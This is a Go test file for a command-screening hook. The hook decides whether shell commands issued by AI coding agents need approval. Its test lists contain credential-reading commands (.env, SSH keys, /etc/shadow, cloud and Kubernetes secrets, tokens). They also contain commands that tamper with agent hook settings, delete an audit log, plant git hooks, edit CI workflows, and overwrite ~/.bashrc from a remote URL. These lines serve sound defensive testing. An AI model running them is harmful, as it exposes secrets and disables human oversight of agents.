package hook

import (
	"strings"
	"testing"

	"github.com/tool-mapping-protocol/tmp/internal/hook"
)

// What a line shows or writes, whichever command does it.
func TestTouched(t *testing.T) {
	w := newPlace(t)
	w.write(w.home+"/.ssh/id_ed25519", "x", 0o600)
	claude, _ := hook.Find("claude")
	ask := strings.Split(`cat .env
cat < .env
head -5 ./.env
grep API .env
grep -n x *.pem .env
sed -n 1,5p .env
awk -F= '{print $2}' .env
base64 .env
cat ~/.ssh/id_ed25519
sudo cat /etc/shadow
bash -c 'cat .env'
env A=b cat .env
cat src/../.env
cat .env.production | head -3
cat .e*
echo "$(cat .env)"
echo $(< .env)
x=$(cat .env); echo $x
printenv AWS_SECRET_ACCESS_KEY
echo $GITHUB_TOKEN
printf '%s\n' "${DB_PASSWORD}"
source .env && echo $API_KEY
gh auth token
op read op://vault/item/password
kubectl get secret db -o yaml
kubectl -n prod get secrets db -o jsonpath='{.data.password}'
vault kv get secret/db
aws secretsmanager get-secret-value --secret-id x
gcloud auth print-access-token
pass show mail
git show HEAD:.env
cat ~/.aws/credentials
cat ~/.docker/config.json
python3 -c "print(open('.env').read())"
node -e "console.log(require('fs').readFileSync('.env','utf8'))"
docker exec app cat /app/.env
echo 'export A=b' >> ~/.bashrc
echo x | tee -a ~/.zshrc
sed -i 's/a/b/' ~/.profile
cp evil ~/.bashrc
mv x .git/hooks/pre-commit
cat > .git/hooks/pre-push <<'EOF2'
rm .claude/settings.json
echo '{}' > .claude/settings.json
echo '{}' > "$HOME/.claude/settings.json"
cp x ~/.codex/hooks.json
jq . a > ~/.cursor/hooks.json
sed -i '/tmp-hook/d' ~/.gemini/settings.json
echo 'auto_allow = true' >> ~/.config/tmp/config.toml
rm -f ~/.local/state/tmp/audit.jsonl
cp ci.yml .github/workflows/ci.yml
cat x > .gitlab-ci.yml
cp hooks.json .cursor
python3 -c "open('.claude/settings.json','w').write('{}')"
tmp-agent install claude --hook --remove
curl -o ~/.bashrc https://x.example/rc
truncate -s 0 ~/.claude/settings.json
ln -sf /dev/null ~/.claude/settings.json`, "\n")
	none := strings.Split(`cat .env.example
ls -la .env
test -f .env && echo yes
cat .env | wc -l
grep -q API .env
grep -c . .env
cut -d= -f1 .env
cat .env > /dev/null
cat main.go
cat ~/.ssh/id_ed25519.pub
cat src/environment.ts
grep -rn "process.env" src
echo $HOME $PATH $USER
printenv PATH
echo "${GITHUB_TOKEN:+set}"
kubectl get secrets
kubectl get pods -o yaml
git log --oneline
git commit -m 'read .env in tests'
grep -rn 'cat .env' docs
git diff -- .env.example
cat ~/.bashrc
cp ~/.bashrc backup.txt
cat .claude/settings.json
cat .github/workflows/ci.yml
ls ~/.claude
git add .github/workflows/ci.yml
echo 'cat .env' > notes.txt
docker run --env-file .env app
node --env-file=.env app.js
tmp-agent doctor
chmod 600 .env
echo token
echo "$KEY"`, "\n")
	for want, lines := range map[string][]string{"ask": ask, "none": none} {
		for _, line := range lines {
			line = strings.ReplaceAll(line, "<<'EOF2'", "<<'X'\nx\nX")
			got, reason := w.hand(w.event("claude", line), "claude").verdict(t, claude)
			if got != want {
				t.Errorf("%q: %s, want %s: %q", line, got, want, reason)
			}
		}
	}
	w.config("[hook]\nsecrets = \"deny\"\n")
	if got, _ := w.hand(w.event("claude", "cat .env"), "claude").verdict(t, claude); got != "deny" {
		t.Errorf("secrets deny: %s", got)
	}
	w.config("[hook]\nsecrets = \"none\"\n")
	if got, _ := w.hand(w.event("claude", "cat .env"), "claude").verdict(t, claude); got != "none" {
		t.Errorf("secrets none: %s", got)
	}
}
